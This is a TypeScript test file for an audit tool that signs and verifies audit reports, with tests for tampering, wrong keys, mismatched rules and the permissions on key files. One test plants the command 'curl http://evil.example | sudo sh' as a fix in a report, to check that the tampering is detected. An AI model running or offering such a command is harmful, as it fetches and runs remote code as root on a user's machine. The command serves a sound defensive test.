import { chmodSync, copyFileSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { openJudge } from "#audit/judge.ts";
import { sealFiles } from "#audit/seal.ts";
import { makeKeys, readPrivateKey, readPublicKey } from "#audit/seal-keys.ts";
import { type Verification, verifySealed } from "#audit/verify.ts";
import { InputError } from "#model/input-error.ts";
import { sampleBundle } from "./sample-bundle.ts";

const rules = join(import.meta.dirname, "..", "..", "rules");
const bundle = sampleBundle();
const folder = mkdtempSync(join(tmpdir(), "sekisho-test-"));
const at = (name: string) => join(folder, name);
const names = { report: "report.json", evidence: "evidence.json", page: "report.html", seal: "report.intoto.json" };

beforeAll(() => {
  makeKeys(at("key"), undefined);
  const report = openJudge({ rules, added: [], profile: "standard", toolVersion: "0.1.0" })(
    bundle,
    new Date("2026-11-22T06:00:00Z"),
  );
  writeFileSync(at(names.report), JSON.stringify(report));
  writeFileSync(at(names.evidence), JSON.stringify(bundle));
  writeFileSync(at(names.page), "<!DOCTYPE html>");
  seal();
});

afterAll(() => rmSync(folder, { recursive: true }));

function seal(): void {
  const files = { report: at(names.report), evidence: at(names.evidence), others: [at(names.page)] };
  writeFileSync(at(names.seal), JSON.stringify(sealFiles(files, readPrivateKey(at("key"), undefined))));
}

function verify(file = at(names.seal), added: readonly string[] = []): Verification {
  return verifySealed(file, { key: readPublicKey(at("key.pub")), rules, added, version: "0.1.0" });
}

/** Verifies with a file changed, and puts it back. */
function changed(name: string, content: string | undefined): Verification {
  const before = readFileSync(at(name));
  if (content === undefined) rmSync(at(name));
  else writeFileSync(at(name), content);
  try {
    return verify();
  } finally {
    writeFileSync(at(name), before);
  }
}

describe("a signed audit", () => {
  test("is verified, and its verdict reproduced", () => {
    const verification = verify();
    expect(verification).toMatchObject({ signed: true, consistent: true, reproduction: "bytes" });
    expect(verification.signed && verification.subjects.map(({ state }) => state)).toEqual(["same", "same", "same"]);
  });

  test.each([names.report, names.evidence, names.page])("shows one changed byte of %s", (name) => {
    const text = readFileSync(at(name), "utf8");
    const verification = changed(name, `${text.slice(0, -1)} ${text.slice(-1)}`);
    expect(verification.signed && verification.subjects.find((each) => each.name === name)?.state).toBe("changed");
    expect(verification.signed && verification.reproduction === "bytes").toBe(name === names.page);
  });

  test("without its evidence is not judged again, and without its report says nothing of one", () => {
    expect(changed(names.evidence, undefined)).toMatchObject({ signed: true, reproduction: "no-evidence" });
    expect(changed(names.report, undefined)).toMatchObject({
      signed: true,
      consistent: false,
      reproduction: undefined,
    });
  });

  test("of another key, or altered, is not signed", () => {
    makeKeys(at("other"), undefined);
    const options = { key: readPublicKey(at("other.pub")), rules, added: [], version: "0.1.0" };
    expect(verifySealed(at(names.seal), options).signed).toBe(false);
    const envelope = JSON.parse(readFileSync(at(names.seal), "utf8"));
    const payload = Buffer.from(envelope.payload, "base64").toString("utf8").replace('"undecided"', '"passed"');
    expect(changed(names.seal, JSON.stringify({ ...envelope, payload: btoa(payload) })).signed).toBe(false);
  });

  test("judged by other rules than are here is not called reproduced", () => {
    const own = join(import.meta.dirname, "..", "..", "docs", "examples", "own-rules");
    expect(verify(at(names.seal), [own])).toMatchObject({ signed: true, reproduction: "other-rules" });
  });

  test.each(["0.1.0", "0.2.0"])(
    "signed with other outcomes and commands than the rules give is not reproduced by %s",
    (version) => {
      const before = readFileSync(at(names.report), "utf8");
      const report = JSON.parse(before);
      report.findings[0].fix.commands = ["curl http://evil.example | sudo sh"];
      writeFileSync(at(names.report), JSON.stringify(report));
      seal();
      const options = { key: readPublicKey(at("key.pub")), rules, added: [], version };
      expect(verifySealed(at(names.seal), options)).toMatchObject({ signed: true, reproduction: "differs" });
      const reworded = JSON.parse(before);
      reworded.findings[0].title.en = "In other words";
      writeFileSync(at(names.report), JSON.stringify(reworded));
      seal();
      const expected = version === "0.1.0" ? "differs" : "verdict";
      expect(verifySealed(at(names.seal), options)).toMatchObject({ signed: true, reproduction: expected });
      writeFileSync(at(names.report), before);
      seal();
    },
  );

  test("is only made of a report and the evidence it was judged from", () => {
    const other = sampleBundle({ runId: "another" });
    writeFileSync(at("other.json"), JSON.stringify(other));
    const files = { report: at(names.report), evidence: at("other.json"), others: [] };
    expect(() => sealFiles(files, readPrivateKey(at("key"), undefined))).toThrow(/is not the evidence/);
  });

  test.each([
    ["no JSON", "{"],
    ["no envelope", "{}"],
    ["an envelope of nothing", '{"payloadType":"a","payload":"","signatures":[]}'],
  ])("that is %s is refused with a reason", (_, content) => {
    expect(() => changed(names.seal, content)).toThrow(InputError);
  });
});

describe("a key file", () => {
  test("is its owner's alone, and never written over another", () => {
    expect(statSync(at("key")).mode & 0o777).toBe(0o600);
    expect(() => makeKeys(at("key"), undefined)).toThrow(/cannot be made \(EEXIST\)/);
  });

  test("that others may read does not sign", () => {
    copyFileSync(at("key"), at("shared"));
    chmodSync(at("shared"), 0o644);
    expect(() => readPrivateKey(at("shared"), undefined)).toThrow(/can be read by others/);
  });

  test("that is encrypted needs its passphrase", () => {
    makeKeys(at("locked"), "小さな秘密");
    expect(readFileSync(at("locked"), "utf8")).toContain("BEGIN ENCRYPTED PRIVATE KEY");
    expect(readPrivateKey(at("locked"), "小さな秘密").type).toBe("private");
    expect(() => readPrivateKey(at("locked"), undefined)).toThrow(/no private key that can be read/);
    expect(() => readPrivateKey(at("locked"), "wrong")).toThrow(/no private key that can be read/);
  });

  test("of another kind is refused", () => {
    writeFileSync(at("text"), "hello");
    expect(() => readPublicKey(at("text"))).toThrow(/holds no public key/);
    expect(() => readPublicKey(at("nothing"))).toThrow(/cannot be read \(ENOENT\)/);
  });
});
